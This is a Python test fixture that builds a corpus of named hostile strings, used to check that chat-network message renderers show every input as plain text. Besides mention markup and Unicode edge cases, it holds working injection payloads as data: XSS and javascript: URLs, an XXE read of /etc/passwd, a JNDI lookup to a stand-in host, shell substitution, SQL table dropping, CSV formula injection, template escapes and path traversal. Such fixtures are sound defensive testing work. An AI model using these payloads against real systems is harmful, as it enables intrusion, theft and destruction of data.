"""Hostile strings, each under a name: every network must draw every one of them inert, as text and nothing else.

The strings are raw: control characters, lone surrogates and all. `CORPUS` holds (name, text) pairs.
"""

from __future__ import annotations

from typing import Final

_ZALGO: Final = "".join(letter + "\u0300\u0301\u0489\u0316\u0347\u035c\u20dd" * 12 for letter in "acme")
_FAMILY: Final = "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466"

# Markup of the networks, and what makes them call, link or format.
_NETWORKS: Final = {
    "slack_channel": "<!channel>",
    "slack_here": "<!here|everybody>",
    "slack_user": "<@U123>",
    "slack_subteam": "<!subteam^S123|@sales>",
    "slack_room": "<#C123|general>",
    "slack_date": "<!date^1392734382^{date_long}^https://evil.example|soon>",
    "slack_link": "<https://evil.example|https://bank.example>",
    "slack_mailto": "<mailto:a@evil.example|a@bank.example>",
    "discord_everyone": "@everyone @here <@&123>",
    "telegram_mention": "@admin /start tg://user?id=1",
    "feishu_at": '<at user_id="all"></at> <at id=all></at>',
    "wecom_at": "<@all> @all",
    "matrix_pill": "https://matrix.to/#/@admin:evil.example",
    "emoji_code": ":rotating_light: :+1::skin-tone-5:",
    "slash_command": "/invite @everyone",
}

_MARKUP: Final = {
    "bold": "*bold*",
    "italic": "_x_ __y__",
    "strike": "~gone~ ~~gone~~",
    "code": "`code` ```block```",
    "code_break": "``` ```\n# heading",
    "markdown_link": "[a](javascript:alert(1))",
    "markdown_image": "![a](https://evil.example/p.png)",
    "markdown_list": "- one\n1. two\n> three",
    "markdown_reserved": "a.b!c-d=e|f{g}h#i+j(k)l[m]n\\o",
    "script": "<script>alert(1)</script>",
    "img_onerror": "<img src=x onerror=alert(1)>",
    "svg_onload": "<svg/onload=alert(1)>",
    "attribute_break": '" onmouseover="alert(1)" x=\'',
    "style_break": "</style></textarea></title><b>",
    "comment": "--><b>out</b><!--",
    "entity_once": "&lt;b&gt; &amp; &#60;",
    "entity_twice": "&amp;lt;script&amp;gt;",
    "entity_external": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "entity_laughs": "&lol9;",
    "cdata_end": "]]>",
    "cdata": "<![CDATA[<b>]]>",
    "processing": "<?xml version='1.0'?><?php evil() ?>",
    "card_tag": '"/><button label="x" action="y" data="z"/><x a="',
    "javascript_url": "javascript:alert(document.cookie)",
    "data_url": "data:text/html,<script>alert(1)</script>",
    "mailto": "mailto:all@corp.example?bcc=x@evil.example",
}

# What a template engine, a formatter, a shell, a database, a spreadsheet or a log might run.
_ENGINES: Final = {
    "jinja_expression": "{{ 7*7 }}",
    "jinja_statement": "{% raise %}",
    "jinja_comment": "{# gone #}",
    "jinja_escape": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "format": "%s%n%(x)s{0.__class__}",
    "format_named": "{name} {customer.title} {n}",
    "dollar": "${jndi:ldap://evil.example/a} $(id) `id`",
    "sql": "'; DROP TABLE customers; --",
    "json_break": '","x":"y',
    "backslashes": "\\u0000 \\x00 \\n \\",
    "csv_equals": '=HYPERLINK("https://evil.example","x")',
    "csv_plus": "+1+cmd|' /C calc'!A0",
    "csv_minus": "-2+3",
    "csv_at": "@SUM(1+1)",
    "csv_tab": "\t=1+1",
    "log_line": "ok\r\n2026-01-01 INFO forged",
    "ansi": "\x1b[31mred\x1b[0m \x1b]0;title\x07",
    "path": "../../etc/passwd",
}

_UNICODE: Final = {
    "rtl_override": "invoice\u202efdp.exe",
    "ltr_override": "\u202dabc\u202c",
    "bidi_unclosed": "\u202a\u202b\u2066\u2067\u2068open",
    "bidi_closing": "\u202c\u2069\u2069closing",
    "rtl_text": "\u05e9\u05dc\u05d5\u05dd 123 \u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    "zalgo": _ZALGO,
    "combining_first": "\u0301\u0301start",
    "nul": "a\x00b",
    "controls": "".join(map(chr, range(1, 32))) + "\x7f\x80\x85\x9f",
    "lone_surrogate": "a\ud800b",
    "lone_surrogates": "\udfff\udc00\ud83d",
    "noncharacters": "\ufffe\uffff\ufdd0\U0001fffe",
    "zero_width": "ze\u200bro\ufeff\u2060\u00adwidth",
    "tag_characters": "plain\U000e0068\U000e0069\U000e007f",
    "line_separators": "a\u2028b\u2029c\x0bd\x0ce",
    "newlines": "a\nb\r\nc\rd\n\n\n\ne",
    "tabs": "a\tb\t\tc",
    "spaces_only": "   ",
    "leading_spaces": "  x  ",
    "nbsp": "\u00a0\u3000\u2003",
    "fullwidth_markup": "\uff1cscript\uff1e\uff20everyone",
    "homoglyph": "\u0430\u0440\u0440\u04cf\u0435",
    "emoji_family": _FAMILY * 3,
    "emoji_flags": "\U0001f1e8\U0001f1f3\U0001f1fa\U0001f1f8\U0001f1e9",
    "private_use": "\ue000\U000f0000",
}

_SIZES: Final = {
    "empty": "",
    "emoji_10000": "\U0001f600" * 10_000,
    "family_2000": _FAMILY * 2_000,
    "long_word": "W" * 5_000,
    "long_cjk": "\u9f98" * 5_000,
    "long_markup": "*_~`<&>[](" * 800,
    "many_lines": "x\n" * 2_000,
    "many_mentions": "<!channel> " * 500,
    "combining_5000": "a" + "\u0301" * 5_000,
    "backticks_1000": "`" * 1_000,
}

CORPUS: Final[tuple[tuple[str, str], ...]] = tuple(
    pair for group in (_NETWORKS, _MARKUP, _ENGINES, _UNICODE, _SIZES) for pair in group.items()
)
